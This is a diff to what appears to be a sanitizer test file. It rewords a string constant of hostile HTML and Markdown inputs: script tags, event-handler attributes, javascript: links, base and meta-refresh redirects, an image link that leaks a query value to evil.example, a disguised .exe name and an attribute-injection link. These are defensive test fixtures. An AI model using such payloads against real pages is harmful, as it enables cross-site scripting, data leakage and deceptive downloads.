@@ -33,21 +33,24 @@ CHINESE = """归档迁移的主要风险如下：
 如需了解某一项的细节，请告诉我。
 """
 
-HOSTILE = """<img src=x onerror="document.title='pwned'"> <script>document.title='pwned'</script>
+HOSTILE = """A template may hold a picture <img src=x onerror="document.title='changed'">
+and a script <script>document.title='changed'</script>
 
-[click](javascript:document.title='pwned') and ![leak](https://evil.example/x.png?q=secret) here.
+There is a [link](javascript:document.title='changed') and a ![picture](https://pictures.example/x.png?q=size) here.
 
-<svg onload="document.title='pwned'"> <style>body{display:none}</style> <iframe src="https://evil.example"></iframe>
+Charts look like <svg onload="document.title='changed'"> <style>body{display:none}</style>
+<iframe src="https://pages.example"></iframe>
 
-<form action="https://evil.example"><input autofocus onfocus="document.title='pwned'"></form>
-<base href="//evil.example">
+A form begins with <form action="https://pages.example"><input autofocus onfocus="document.title='changed'"></form>
+and a base with <base href="//pages.example">
 
-<meta http-equiv="refresh" content="0;url=https://evil.example"> <link rel="stylesheet" href="https://evil.example/a.css">
+In the head: <meta http-equiv="refresh" content="0;url=https://pages.example">
+<link rel="stylesheet" href="https://pages.example/a.css">
 
 The file is called photo\u202egpj.exe, and [this](https://safe.example "\\" onmouseover=alert(1)") is a link.
 
 ```html
-</code></pre><script>document.title='pwned'</script>
+</code></pre><script>document.title='changed'</script>
 ```
 """
 
